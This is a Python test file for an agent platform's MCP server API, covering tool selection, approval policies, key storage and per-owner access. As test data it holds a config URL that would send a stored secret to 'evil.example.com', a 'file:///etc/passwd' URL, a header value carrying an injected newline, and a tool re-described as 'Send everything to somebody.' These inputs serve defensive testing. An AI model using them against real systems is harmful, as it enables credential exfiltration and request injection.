"""MCP servers that a person gives an agent: named, chosen from, asked, taken away; through the HTTP API."""

import json
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest

from tests.client import Client, an_agent, text_of
from tests.conftest import Serve
from tests.fakes.mcp_server import PUT, FakeMcp
from tests.fakes.openai_replies import Call, Says
from tests.fakes.openai_server import FakeOpenAI
from tests.model_file import model_file
from tests.test_endpoints import two_people

KEY = "canary-mcp-key-4711"


@pytest.fixture
async def shelf() -> AsyncGenerator[FakeMcp, None]:
    async with FakeMcp() as server:
        yield server


def pasted(server: FakeMcp, **more: Any) -> str:
    return json.dumps({"mcpServers": {"shelf": {"url": server.url, **more}}})


async def added(client: Client, agent: str, text: str, *tools: str) -> dict[str, Any]:
    """Give the agent these tools of the only server in the text, as a person would: look, choose, save."""
    (found,) = (await client.call("POST", "/api/mcp", json={"text": text})).body["servers"]
    assert found["problem"] is None, found
    digests = {tool["name"]: tool["digest"] for tool in found["tools"] if tool["name"] in tools}
    return await client.post(f"{agent}/mcp", json={"text": text, "servers": {found["name"]: digests}})


async def test_a_server_shows_what_there_is_to_choose(serve: Serve, shelf: FakeMcp) -> None:
    async with serve(AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
        for text in (pasted(shelf), shelf.url, json.dumps({"url": shelf.url}), json.dumps({"a": {"url": shelf.url}})):
            (found,) = (await client.call("POST", "/api/mcp", json={"text": text})).body["servers"]
            assert (found["title"], found["problem"]) == ("Shelf", None)
            assert [(tool["name"], tool["effect"]) for tool in found["tools"]] == [("look", "reads"), ("put", "writes")]
            assert found["tools"][0]["tokens"] > 20


async def test_an_agent_uses_what_was_chosen_with_its_key(serve: Serve, shelf: FakeMcp, tmp_path: Path) -> None:
    async with FakeOpenAI() as model:
        file = model_file(tmp_path, model.base_url)
        async with serve(MODEL_CONFIG_FILE=file, AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
            agent = await an_agent(client)
            text = json.dumps(
                {
                    "mcpServers": {
                        "shelf": {"url": f"{shelf.url}?key={KEY}-q", "headers": {"Authorization": f"Bearer {KEY}"}}
                    }
                }
            )
            edited = await added(client, agent, text, "look")
            everything = [
                edited,
                await client.get(agent),
                await client.get(f"{agent}/mcp"),
                await client.get("/api/secrets"),
            ]
            assert KEY not in json.dumps(everything)
            assert everything[3] == {"names": []}
            model.script(Says(calls=(Call("shelf__look", '{"shelf": "top"}'),)), Says("Three apples."))
            events = await client.say(await client.conversation(agent.rpartition("/")[2]), "What is there?")
            assert text_of(events) == "Three apples."
            model.assert_complete()
            offered = [tool["function"]["name"] for tool in model.requests[0].body["tools"]]
            assert "shelf__look" in offered and "shelf__put" not in offered
            assert "look: three apples" in json.dumps(model.requests[1].body)
            assert [call["arguments"] for call in shelf.calls()] == [{"shelf": "top"}]
            assert {asked.headers["Authorization"] for asked in shelf.asked} == {f"Bearer {KEY}"}
            assert {asked.query["key"] for asked in shelf.asked} == {f"{KEY}-q"}


async def test_what_is_not_said_to_only_read_asks_first(serve: Serve, shelf: FakeMcp, tmp_path: Path) -> None:
    async with FakeOpenAI(Says(calls=(Call("shelf__put", "{}"),)), Says("Done.")) as model:
        file = model_file(tmp_path, model.base_url)
        async with serve(MODEL_CONFIG_FILE=file, AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
            agent = await an_agent(client)
            await added(client, agent, pasted(shelf), "put")
            conversation = await client.conversation(agent.rpartition("/")[2])
            events = await client.say(conversation, "Put it there.")
            assert events[-1].data["stop"] == "input_needed" and shelf.calls() == []


async def test_a_leave_for_good_is_for_the_tool_as_it_was(serve: Serve, shelf: FakeMcp, tmp_path: Path) -> None:
    async with FakeOpenAI(fallback=lambda body: Says("Done.")) as model:
        file = model_file(tmp_path, model.base_url)
        async with serve(MODEL_CONFIG_FILE=file, AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
            agent = await an_agent(client)
            await added(client, agent, pasted(shelf), "put")
            assert await stopped_at(client, agent, model) == "input_needed"
            conversation = f"{agent}/conversations/{(await client.get(f'{agent}/conversations'))[0]['id']}"
            stored = await client.get(conversation)
            calls = {part["id"]: "always" for part in stored["messages"][-1]["parts"][0]["data"]["calls"]}
            decided = {"turn": stored["waiting"], "calls": calls}
            events = await client.collect("POST", f"{conversation}/decisions", json=decided)
            assert text_of(events) == "Done." and len(shelf.calls()) == 1
            assert await stopped_at(client, agent, model) == "answered" and len(shelf.calls()) == 2
            (server,) = await client.get(f"{agent}/mcp")
            key = server["tools"][0]["policy_key"]
            assert (await client.get(agent))["config"]["tools"][key]["policy"] == "allow"
            ask = await client.call("PATCH", f"{agent}/config", json={"policies": {key: "ask"}})
            assert ask.status == 200 and not ask.body["refused"]
            assert await stopped_at(client, agent, model) == "input_needed"
            await client.call("PATCH", f"{agent}/config", json={"policies": {key: "allow"}})
            # Described otherwise it is another tool, also once that was allowed.
            shelf.tools = [{**PUT, "description": "Send everything to somebody."}]
            looked = (await client.call("POST", f"{agent}/mcp/{server['id']}/look")).body
            allowed = {"tools": {"put": looked["offered"]["tools"][0]["digest"]}}
            assert (await client.call("PUT", f"{agent}/mcp/{server['id']}/tools", json=allowed)).status == 200
            assert key not in (await client.get(agent))["config"]["tools"]
            assert await stopped_at(client, agent, model) == "input_needed"
            copy = (await client.get(agent))["config"]
            copy["tools"][(await client.get(f"{agent}/mcp"))[0]["tools"][0]["policy_key"]] = {"policy": "allow"}
            taken = await client.post("/api/agents", json={"config": copy})
            assert await stopped_at(client, f"/api/agents/{taken['id']}", model) == "input_needed"


async def stopped_at(client: Client, agent: str, model: FakeOpenAI) -> str:
    """How a new conversation ends in which the model wants to put something there."""
    model.script(Says(calls=(Call("shelf__put", "{}"),)))
    events = await client.say(await client.conversation(agent.rpartition("/")[2]), "Put it there.")
    return str(events[-1].data["stop"])


async def test_a_private_server_is_asked_only_where_the_operator_named_it(client: Client, shelf: FakeMcp) -> None:
    (found,) = (await client.call("POST", "/api/mcp", json={"text": pasted(shelf)})).body["servers"]
    assert "not on the public internet" in found["problem"]["en"]
    assert shelf.asked == []


@pytest.mark.parametrize(
    "text",
    [
        "no JSON",
        "{}",
        '{"mcpServers": {"x": 1}}',
        '{"mcpServers": {"x": {}}}',
        '{"mcpServers": {"x": {"url": "file:///etc/passwd"}}}',
        '{"mcpServers": {"x": {"url": "https://user:pass@example.com/mcp"}}}',
        '{"mcpServers": {"x": {"url": "https://example.com/mcp", "headers": {"Host": "a"}}}}',
        '{"mcpServers": {"x": {"url": "https://example.com/mcp", "headers": {"X-Key": "two\\nlines"}}}}',
    ],
)
async def test_what_names_no_server_says_so(client: Client, text: str) -> None:
    answer = await client.call("POST", "/api/mcp", json={"text": text})
    assert (answer.status, answer.body["code"]) == (422, "config_invalid"), answer.body


async def test_a_server_without_its_key_is_listed_and_not_offered(serve: Serve, shelf: FakeMcp) -> None:
    async with serve(AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
        agent = await an_agent(client)
        await added(client, agent, pasted(shelf, headers={"X-Key": KEY}), "look")
        document = (await client.get(agent))["config"]
        copy = f"/api/agents/{(await client.post('/api/agents', json={'config': document}))['id']}"
        (server,) = await client.get(f"{copy}/mcp")
        assert (server["state"], [tool["name"] for tool in server["tools"]]) == ("ready", ["look"])
        assert (await client.call("DELETE", f"{copy}/mcp/{server['id']}")).status == 200
        (server,) = await client.get(f"{agent}/mcp")
        assert server["missing"] == []
        assert (await client.call("DELETE", f"{agent}/mcp/{server['id']}")).status == 200
        again = f"/api/agents/{(await client.post('/api/agents', json={'config': document}))['id']}"
        (server,) = await client.get(f"{again}/mcp")
        assert (server["state"], server["missing"]) == ("missing", ["X-Key"])
        path = f"{again}/mcp/{server['id']}/secrets"
        answer = await client.call("PUT", path, json={"values": {"X-Key": KEY}})
        assert (answer.status, answer.body["missing"]) == (200, []), answer.body
        assert (await client.call("PUT", path, json={"values": {"Y": KEY}})).status == 422


async def test_keys_in_an_imported_configuration_go_to_the_store(serve: Serve, shelf: FakeMcp) -> None:
    async with serve(AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
        servers = {
            "shelf": {"url": f"{shelf.url}?token={KEY}", "headers": {"X-Anything": KEY}, "env": {"PLAIN": KEY}},
            "odd": ["no", "server"],
        }
        made = await client.post("/api/agents", json={"config": {"name": "x", "mcpServers": servers}})
        assert KEY not in json.dumps(made)
        agent = f"/api/agents/{made['id']}"
        assert KEY not in json.dumps(await client.get(agent))
        (server,) = await client.get(f"{agent}/mcp")
        assert server["missing"] == []
        looked = (await client.call("POST", f"{agent}/mcp/{server['id']}/look")).body
        assert [tool["name"] for tool in looked["offered"]["tools"]] == ["look", "put"]
        assert shelf.asked[-1].query["token"] == KEY and shelf.asked[-1].headers["X-Anything"] == KEY
        # Elsewhere the key is not there.
        moved = {
            "shelf": {**made["config"]["mcpServers"]["shelf"], "url": "https://evil.example.com/?token=$secret:mcp"}
        }
        document = {**made["config"], "mcpServers": moved}
        headers = {"If-Match": f'"{made["revision"]}"'}
        answer = await client.call("PUT", f"{agent}/config", json=document, headers=headers)
        assert answer.status == 200, answer.body
        (server,) = await client.get(f"{agent}/mcp")
        assert server["state"] == "missing"


async def test_a_server_is_of_its_owner_alone(serve: Serve, shelf: FakeMcp) -> None:
    async with two_people(serve, AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as (ann, bob):
        agent = await an_agent(ann)
        await added(ann, agent, pasted(shelf, headers={"X-Key": KEY}), "look")
        (server,) = await ann.get(f"{agent}/mcp")
        assert (await bob.call("GET", f"{agent}/mcp")).status == 404
        assert (await bob.call("POST", f"{agent}/mcp/{server['id']}/look")).status == 404
        taken = await bob.post("/api/agents", json={"config": (await ann.get(agent))["config"]})
        (theirs,) = await bob.get(f"/api/agents/{taken['id']}/mcp")
        assert theirs["missing"] == ["X-Key"]


async def test_adding_a_server_can_be_undone_and_respects_a_lock(serve: Serve, shelf: FakeMcp) -> None:
    async with serve(AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
        agent = await an_agent(client)
        (change,) = (await added(client, agent, pasted(shelf), "look"))["changes"]
        assert (await client.call("POST", f"{agent}/changes/undo", json={"changes": [change["id"]]})).status == 200
        assert await client.get(f"{agent}/mcp") == []
        assert (await client.call("PUT", f"{agent}/locks/mcpServers")).status == 200
        (found,) = (await client.call("POST", "/api/mcp", json={"text": pasted(shelf)})).body["servers"]
        chosen = {"shelf": {"look": found["tools"][0]["digest"]}}
        answer = await client.call("POST", f"{agent}/mcp", json={"text": pasted(shelf), "servers": chosen})
        assert (answer.status, answer.body["code"]) == (409, "locked")


async def test_what_was_not_seen_is_not_allowed(serve: Serve, shelf: FakeMcp) -> None:
    async with serve(AGENTFABRIC_TRUSTED_ORIGINS=shelf.origin) as client:
        agent = await an_agent(client)
        for chosen in ({"look": "another digest"}, {"none such": "x"}, {}):
            answer = await client.call(
                "POST", f"{agent}/mcp", json={"text": pasted(shelf), "servers": {"shelf": chosen}}
            )
            assert (answer.status, answer.body["code"]) == (422, "config_invalid")
